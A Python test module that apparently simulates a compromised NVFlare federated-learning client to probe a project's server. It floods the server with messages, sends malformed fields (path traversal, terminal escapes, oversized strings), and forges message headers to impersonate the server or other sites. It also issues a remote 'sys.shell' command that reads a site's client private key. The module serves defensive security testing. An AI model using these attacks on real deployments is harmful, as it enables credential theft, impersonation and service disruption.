"""A site's kit in the wrong hands: registers with it, and sends metric messages of its own making. Runs in a container of its own.

NVFlare alone, and nothing of this project: what is sent is chosen here. Prints one line for each attack: HOSTILE and a JSON object.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import struct
import sys
import threading
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_context import FLContext

WORKSPACE = Path("/tmp/workspace")
HEADER = 20  # bytes before the first record of a log
JOB, SITE, UNKNOWN = os.environ.get("JOB", ""), os.environ.get("SITE", ""), int(os.environ.get("UNKNOWN", "20000"))
BAD_FIELDS: list[tuple[str, Any]] = [
    *((name, value) for name in ("logged", "refused", "delivered", "offset") for value in ("x", [1], -5, True, None)),
    ("logged", 10**9), ("delivered", 10**9), ("closed", "yes"), ("forwards", 1), ("data", "text"), ("data", {"a": 1}),
    ("state", "perfect"), ("state", 5), ("reason", {"a": [1]}), ("reason", "\x1b]0;owned\x07"), ("reason", "y" * 10_000_000),
    ("job", "../../x"), ("job", "a/b"), ("job", 5), ("colour", "red"),
]  # fmt: skip
IN_A_LOG = [
    b"not json",
    b"[1, 2, 3]",
    b'["today", 1, {"a": 1}]',
    b'[1, 1, "text"]',
    b'[1, 1, {"\\ud800": 1}]',
    b'[1, 1, [["a", 1]]]',
]


class Hostile(FLComponent):
    """Begins when the client has started."""

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        """NVFlare's event seam."""
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=attack, args=(fl_ctx.get_engine(),), daemon=True).start()


def message(**changes: Any) -> dict[str, Any]:
    """What an honest site sends, but for `changes`."""
    honest = {"job": JOB, "offset": HEADER, "data": b"", "logged": 0, "refused": 0, "closed": False, "forwards": True}
    return {**honest, "delivered": 0, "state": "", "reason": "", **changes}


def frames(payloads: list[bytes]) -> bytes:
    """As they stand in a log."""
    return b"".join(struct.pack("<II", len(payload), zlib.crc32(payload)) + payload for payload in payloads)


def attack(engine: Any) -> None:
    """Everything, one after the other; then the process ends."""
    try:
        while not getattr(engine.client, "token", None) or engine.get_cell() is None:
            time.sleep(0.2)
        time.sleep(1)
        _attack(engine.get_cell().core_cell)
        say("commands", answered=list(_commands(engine.get_cell().core_cell, engine.client.token)))
    except BaseException as error:
        say("failed", error=f"{type(error).__name__}: {error}")
    os._exit(0)


def _attack(cell: Any) -> None:
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.private.defs import new_cell_message

    def send(sent: dict[str, Any]) -> dict[str, Any]:
        answer = cell.send_request(
            channel="multisite_tracking",
            topic="records",
            target="server",
            request=new_cell_message({}, sent),
            timeout=20,
            optional=True,
        )
        code = answer.get_header(MessageHeaderKey.RETURN_CODE)
        return dict(answer.payload) if isinstance(answer.payload, dict) else {"error": f"no answer: {code}", "lost": True}

    started = time.monotonic()
    answers = [send(message(job=f"evil{number}", logged=1, data=frames([b"[1,1,{}]"]))) for number in range(UNKNOWN)]
    refused = sum("error" in answer for answer in answers)
    lost = sum("lost" in answer for answer in answers)
    say("unknown", sent=UNKNOWN, refused=refused, lost=lost, seconds=time.monotonic() - started, last=answers[-1])

    taken = [[name, str(value)[:40]] for name, value in BAD_FIELDS if "error" not in send(message(**{name: value}))]
    missing = [name for name in message() if "error" not in send({key: value for key, value in message().items() if key != name})]
    say("fields", sent=len(BAD_FIELDS), taken=taken, missing=missing)

    here = send(message())
    logged = int(here["delivered"]) + len(IN_A_LOG)
    answer = send(message(offset=here["size"], data=frames(IN_A_LOG), logged=logged, closed=True))
    say("record", before=here, after=answer, logged=logged, bad=len(IN_A_LOG))


def _commands(cell: Any, token: str) -> Iterator[list[str]]:
    """What NVFlare's server would hand on: commands for another site, and messages under other names. Yields what was answered."""
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.private.admin_defs import Message as AdminMessage
    from nvflare.private.defs import CellMessageHeaderKeys, new_cell_message

    forged: dict[str, str] = {}
    send_on = cell._send_to_endpoint

    def send(to_endpoint: Any, message: Any) -> Any:
        message.headers.update(forged)
        return send_on(to_endpoint, message)

    cell._send_to_endpoint = send  # an attacker has no manners
    key = "head -c 27 /kit/startup/client.key"
    other_name = {
        CellMessageHeaderKeys.CLIENT_NAME: f"{SITE}{token[0]}",
        CellMessageHeaderKeys.TOKEN: token[1:],
    }  # the signature holds
    for what, target, channel, topic, content, changes in (
        ("a shell at site-1", "site-1", "admin", "sys.shell", AdminMessage("sys.shell", key), {}),
        ("an end of site-1", "site-1", "admin", "train.shutdown", AdminMessage("train.shutdown", ""), {}),
        ("an end of site-1's job", f"site-1.{JOB}", "client_command", "abort", {}, {}),
        (
            "a shell as the server",
            "site-1",
            "admin",
            "sys.shell",
            AdminMessage("sys.shell", key),
            {MessageHeaderKey.ORIGIN: "server"},
        ),
        ("records as site-1", "server", "multisite_tracking", "records", message(), {MessageHeaderKey.ORIGIN: "site-1"}),
        ("records as nobody", "server", "multisite_tracking", "records", message(), other_name),
        (
            "an ending as nobody",
            "server",
            "multisite_jobs",
            "ended",
            {"job": JOB, "code": 1, "memory_limit": 0, "cut_off": False},
            other_name,
        ),
    ):
        forged.clear()
        forged.update(changes)
        request = new_cell_message({}, content)
        answer = cell.send_request(channel=channel, topic=topic, target=target, request=request, timeout=3, optional=True)
        if answer.get_header(MessageHeaderKey.RETURN_CODE) == "ok":
            yield [what, str(getattr(answer.payload, "body", answer.payload))[:100]]


def say(kind: str, **fields: Any) -> None:
    """One line for the test."""
    print("HOSTILE", json.dumps({"kind": kind, **fields}), flush=True)


def main() -> None:
    """Starts NVFlare's client with the kit in /kit; its own policy lets this module's component in."""
    for part in ("startup", "local"):
        shutil.copytree(f"/kit/{part}", WORKSPACE / part)
    local = WORKSPACE / "local"
    shutil.copyfile(local / "log_config.json.default", local / "log_config.json")
    resources = json.loads((local / "resources.json").read_text(encoding="utf-8"))
    resources["components"] = [part for part in resources["components"] if not str(part.get("path")).startswith("multisite.")]
    resources["components"].append({"id": "hostile", "path": "hostile.Hostile"})
    resources["class_allow_list"] = ["*"]
    (local / "resources.json").write_text(json.dumps(resources), encoding="utf-8")
    os.chdir(WORKSPACE)
    from nvflare.fuel.f3.mpm import MainProcessMonitor
    from nvflare.private.fed.app.client import client_train

    options = ["secure_train=true", "org=multisite", "config_folder=config", f"uid={SITE}"]
    arguments = argparse.Namespace(fed_client="fed_client.json", local_rank=0, workspace=str(WORKSPACE), set=options)
    sys.exit(MainProcessMonitor.run(main_func=client_train.main, run_dir=str(WORKSPACE), args=arguments))


if __name__ == "__main__":
    main()
